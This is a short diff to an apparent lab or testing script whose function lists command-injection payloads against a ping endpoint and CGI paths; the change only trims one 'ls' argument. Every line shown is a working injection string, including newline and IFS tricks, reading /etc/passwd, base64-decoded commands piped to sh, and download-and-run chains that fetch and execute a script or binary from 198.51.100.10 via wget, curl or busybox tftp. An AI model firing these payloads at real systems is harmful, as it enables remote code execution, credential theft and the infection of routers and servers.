@@ -128,7 +128,7 @@ def cmd(lab):
     r("newline", "'URL/ping.php?host=127.0.0.1%0Aid'")
     r("blank by IFS", "'URL/ping.php?host=;cat$IFS/etc/passwd'")
     r("base64 to sh", "'URL/ping.php?host=;echo%20aWQ=|base64%20-d|sh'")
-    r("in the body, works", "--data-urlencode 'host=127.0.0.1; id; ls -la /' URL/ping.php")
+    r("in the body, works", "--data-urlencode 'host=127.0.0.1; id; ls -la' URL/ping.php")
     r("download and run (wget)", "'URL/cgi-bin/status?host=;cd%20/tmp;wget%20http://198.51.100.10/bins.sh;chmod%20777%20bins.sh;sh%20bins.sh'")
     r("download and run (curl to sh)", "'URL/cgi-bin/status?host=;curl%20http://198.51.100.10/a.sh|sh'")
     r("download and run (tftp, busybox)", "'URL/cgi-bin/luci?cmd=;busybox%20tftp%20-g%20-r%20mips%20198.51.100.10;chmod%20+x%20mips;./mips'")
